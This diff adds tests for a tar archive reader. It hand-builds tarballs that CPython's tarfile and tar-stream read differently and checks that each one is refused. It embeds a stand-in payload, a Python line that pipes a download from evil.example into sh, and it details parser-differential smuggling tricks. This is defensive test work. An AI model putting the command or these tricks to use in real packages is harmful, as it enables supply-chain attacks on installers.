@@ -264,3 +264,241 @@ describe("openArchive", () => {
     });
   });
 });
+
+// ---------------------------------------------------------------------------------------------
+// Hand-assembled tarballs that CPython tarfile (what pip unpacks sdists with) and tar-stream would
+// read differently.
+
+interface RawTarHeader {
+  name: string;
+  /** The typeflag character; "0" by default. */
+  type?: string;
+  size?: number;
+  prefix?: string;
+  /** GNU ("ustar  \0") instead of POSIX ("ustar\0" "00") magic. */
+  gnu?: boolean;
+}
+
+function rawHeader(header: RawTarHeader): Buffer {
+  const block = Buffer.alloc(512);
+  const octal = (value: number, length: number) => value.toString(8).padStart(length - 1, "0") + "\0";
+  block.write(header.name, 0, 100, "utf8");
+  block.write(octal(header.type === "5" ? 0o755 : 0o644, 8), 100, "ascii");
+  block.write(octal(0, 8), 108, "ascii");
+  block.write(octal(0, 8), 116, "ascii");
+  block.write(octal(header.size ?? 0, 12), 124, "ascii");
+  block.write(octal(1577836800, 12), 136, "ascii");
+  block.write(header.type ?? "0", 156, "latin1");
+  if (header.gnu === true) block.write("ustar  \0", 257, "latin1");
+  else block.write("ustar\u000000", 257, "latin1");
+  if (header.prefix !== undefined) block.write(header.prefix, 345, 155, "utf8");
+  block.write("        ", 148, "ascii");
+  let sum = 0;
+  for (const byte of block) sum += byte;
+  block.write(sum.toString(8).padStart(6, "0") + "\0 ", 148, "ascii");
+  return block;
+}
+
+function padded(data: Buffer): Buffer {
+  return Buffer.concat([data, Buffer.alloc((512 - (data.length % 512)) % 512)]);
+}
+
+/** A regular member: header and padded body. */
+function rawFile(name: string, content: string, extra: Partial<RawTarHeader> = {}): Buffer {
+  const body = Buffer.from(content);
+  return Buffer.concat([rawHeader({ name, size: body.length, ...extra }), padded(body)]);
+}
+
+function paxRecord(key: string, value: string): string {
+  const body = ` ${key}=${value}\n`;
+  const bytes = Buffer.byteLength(body);
+  let length = bytes + 1;
+  while (String(length).length + bytes !== length) length++;
+  return `${length}${body}`;
+}
+
+/** A pax (`x`, or `g` for global) header whose data holds `records`. */
+function rawPax(records: string, type = "x", size?: number): Buffer {
+  const data = Buffer.from(records);
+  return Buffer.concat([
+    rawHeader({ name: "PaxHeader/x", type, size: size ?? Buffer.byteLength(records) }),
+    padded(data),
+  ]);
+}
+
+function tarGz(...parts: Buffer[]): Buffer {
+  return zlib.gzipSync(Buffer.concat([...parts, Buffer.alloc(1024)]));
+}
+
+const PKG_INFO = rawFile("evil-1.0/PKG-INFO", "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n");
+const EVIL_SETUP = "import os\nos.system('curl https://evil.example | sh')\n";
+
+/** Opens a crafted tarball; returns the listing, or the refusal as code and message. */
+async function tarView(name: string, bytes: Buffer): Promise<string[] | { code: string; message: string }> {
+  try {
+    const archive = await openTarArchive(await write(name, bytes));
+    try {
+      await archive.forEachFile(() => {});
+      return archive.entries().map((entry) => (entry.isDirectory ? `${entry.name}/` : entry.name));
+    } finally {
+      await archive.close();
+    }
+  } catch (err) {
+    assert.ok(err instanceof ArchiveError, `expected an ArchiveError, got ${String(err)}`);
+    return { code: err.code, message: err.message };
+  }
+}
+
+describe("openTarArchive: tarballs CPython and tar-stream would read differently", () => {
+  test("reads hand-assembled POSIX, GNU long-name and pax members as CPython does", async () => {
+    const longName = `evil-1.0/${"d".repeat(90)}/${"m".repeat(40)}.py`;
+    const longBody = Buffer.from(`${longName}\0`);
+    const view = await tarView(
+      "plain.tar.gz",
+      tarGz(
+        rawHeader({ name: "evil-1.0/", type: "5" }),
+        PKG_INFO,
+        rawFile("setup.py", "x = 1\n", { prefix: "evil-1.0" }),
+        rawHeader({ name: "././@LongLink", type: "L", size: longBody.length, gnu: true }),
+        padded(longBody),
+        rawFile(longName.slice(0, 99), "y = 2\n", { gnu: true }),
+        rawPax(paxRecord("path", "evil-1.0/caf\u00e9.py") + paxRecord("mtime", "1700000000.25")),
+        rawFile("evil-1.0/cafe.py", "z = 3\n"),
+      ),
+    );
+    assert.deepEqual(view, [
+      "evil-1.0/",
+      "evil-1.0/PKG-INFO",
+      "evil-1.0/setup.py",
+      longName,
+      "evil-1.0/caf\u00e9.py",
+    ]);
+  });
+
+  test("refuses a global pax header, whose path CPython gives every later member", async () => {
+    const view = await tarView(
+      "global-pax.tar.gz",
+      tarGz(
+        PKG_INFO,
+        rawPax(paxRecord("path", "evil-1.0/setup.py"), "g"),
+        rawFile("evil-1.0/NOTES.txt", EVIL_SETUP),
+      ),
+    );
+    assert.equal((view as { code: string }).code, "UNSUPPORTED", JSON.stringify(view));
+  });
+
+  test("refuses pax keys outside the allow-list", async () => {
+    for (const [key, value] of [
+      ["GNU.sparse.name", "evil-1.0/setup.py"],
+      ["hdrcharset", "BINARY"],
+      ["comment", "hello"],
+    ] as const) {
+      const view = await tarView(
+        "pax-key.tar.gz",
+        tarGz(PKG_INFO, rawPax(paxRecord(key, value)), rawFile("evil-1.0/NOTES.txt", EVIL_SETUP)),
+      );
+      assert.equal((view as { code: string }).code, "UNSUPPORTED", `${key}: ${JSON.stringify(view)}`);
+    }
+  });
+
+  test("refuses pax records hidden in the padding after the declared pax size", async () => {
+    // CPython parses the whole padded block up to a NUL; tar-stream only the declared bytes.
+    const shown = paxRecord("path", "evil-1.0/NOTES.txt");
+    const hidden = paxRecord("path", "evil-1.0/setup.py");
+    const view = await tarView(
+      "pax-padding.tar.gz",
+      tarGz(
+        PKG_INFO,
+        rawPax(shown + hidden, "x", Buffer.byteLength(shown)),
+        rawFile("evil-1.0/x", EVIL_SETUP),
+      ),
+    );
+    assert.equal((view as { code: string }).code, "CORRUPT", JSON.stringify(view));
+  });
+
+  test("refuses pax values the readers parse differently, and keys given twice", async () => {
+    const cases: [string, string][] = [
+      ["bad-size", paxRecord("size", "12abc")],
+      ["empty-path", paxRecord("path", "")],
+      ["twice", paxRecord("path", "evil-1.0/a.txt") + paxRecord("path", "evil-1.0/setup.py")],
+    ];
+    for (const [label, records] of cases) {
+      const view = await tarView(
+        `pax-${label}.tar.gz`,
+        tarGz(PKG_INFO, rawPax(records), rawFile("evil-1.0/NOTES.txt", EVIL_SETUP)),
+      );
+      assert.equal((view as { code: string }).code, "CORRUPT", `${label}: ${JSON.stringify(view)}`);
+    }
+  });
+
+  test("refuses a ustar prefix that only CPython applies (GNU magic)", async () => {
+    const view = await tarView(
+      "gnu-prefix.tar.gz",
+      tarGz(PKG_INFO, rawFile("setup.py", EVIL_SETUP, { prefix: "evil-1.0", gnu: true })),
+    );
+    assert.equal((view as { code: string }).code, "CORRUPT", JSON.stringify(view));
+  });
+
+  test("refuses a regular file named like a directory, which CPython writes as a file", async () => {
+    const longBody = Buffer.from("evil-1.0/setup.py/\0");
+    const cases: [string, Buffer[]][] = [
+      ["type 0", [rawFile("evil-1.0/setup.py/", EVIL_SETUP)]],
+      [
+        "long name",
+        [
+          rawHeader({ name: "././@LongLink", type: "L", size: longBody.length, gnu: true }),
+          padded(longBody),
+          rawFile("evil-1.0/x", EVIL_SETUP, { gnu: true }),
+        ],
+      ],
+      ["pax path", [rawPax(paxRecord("path", "evil-1.0/setup.py/")), rawFile("evil-1.0/x", EVIL_SETUP)]],
+    ];
+    for (const [label, parts] of cases) {
+      const view = await tarView("slash.tar.gz", tarGz(PKG_INFO, ...parts));
+      assert.equal((view as { code: string }).code, "CORRUPT", `${label}: ${JSON.stringify(view)}`);
+    }
+  });
+
+  test("refuses members after the end-of-archive blocks, where CPython stops", async () => {
+    const bytes = zlib.gzipSync(
+      Buffer.concat([
+        PKG_INFO,
+        Buffer.alloc(1024),
+        rawFile("evil-1.0/setup.py", EVIL_SETUP),
+        Buffer.alloc(1024),
+      ]),
+    );
+    const view = await tarView("after-end.tar.gz", bytes);
+    assert.equal((view as { code: string }).code, "CORRUPT", JSON.stringify(view));
+  });
+
+  test("refuses chained extended headers and member types the readers treat differently", async () => {
+    const longBody = Buffer.from("evil-1.0/NOTES.txt\0");
+    const chained = [
+      rawHeader({ name: "././@LongLink", type: "L", size: longBody.length, gnu: true }),
+      padded(longBody),
+      rawPax(paxRecord("path", "evil-1.0/setup.py")),
+      rawFile("evil-1.0/x", EVIL_SETUP),
+    ];
+    const chainedView = await tarView("chained.tar.gz", tarGz(PKG_INFO, ...chained));
+    assert.equal((chainedView as { code: string }).code, "CORRUPT", JSON.stringify(chainedView));
+    // tar-stream reads N as an old GNU long name; CPython writes it out as a regular file.
+    const nView = await tarView(
+      "type-n.tar.gz",
+      tarGz(PKG_INFO, rawFile("evil-1.0/setup.py", EVIL_SETUP, { type: "N" })),
+    );
+    assert.equal((nView as { code: string }).code, "UNSUPPORTED", JSON.stringify(nView));
+    // A GNU long link name only matters for links, which are refused; on a file it is refused too.
+    const linkBody = Buffer.from("evil-1.0/setup.py\0");
+    const kView = await tarView(
+      "type-k.tar.gz",
+      tarGz(
+        PKG_INFO,
+        rawHeader({ name: "././@LongLink", type: "K", size: linkBody.length, gnu: true }),
+        padded(linkBody),
+        rawFile("evil-1.0/NOTES.txt", EVIL_SETUP, { gnu: true }),
+      ),
+    );
+    assert.equal((kView as { code: string }).code, "UNSUPPORTED", JSON.stringify(kView));
+  });
+});
